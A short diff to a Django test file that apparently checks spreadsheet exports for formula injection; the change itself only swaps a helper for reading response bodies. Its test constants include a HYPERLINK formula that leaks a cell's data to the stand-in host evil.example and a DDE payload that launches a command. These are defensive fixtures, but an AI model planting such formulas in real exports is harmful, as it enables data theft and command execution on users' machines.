@@ -13,7 +13,7 @@ from django.urls import reverse
 from rest_framework.authtoken.models import Token
 
 from listening.models import Listener, Sentence, System
-from tests.factories import rated_study
+from tests.factories import rated_study, response_body
 
 SYSTEM = '=HYPERLINK("https://evil.example/?d="&A2,"Click for results")'
 LISTENER = "+cmd|' /C calc'!A0"
@@ -36,9 +36,7 @@ def rows(text: str) -> list[list[str]]:
 
 def body(response) -> str:
     assert response.status_code == 200, response.content[:500]
-    if response.streaming:
-        return b"".join(response.streaming_content).decode("utf-8")
-    return response.content.decode("utf-8")
+    return response_body(response).decode("utf-8")
 
 
 def assert_no_formula(table: list[list[str]]) -> None:
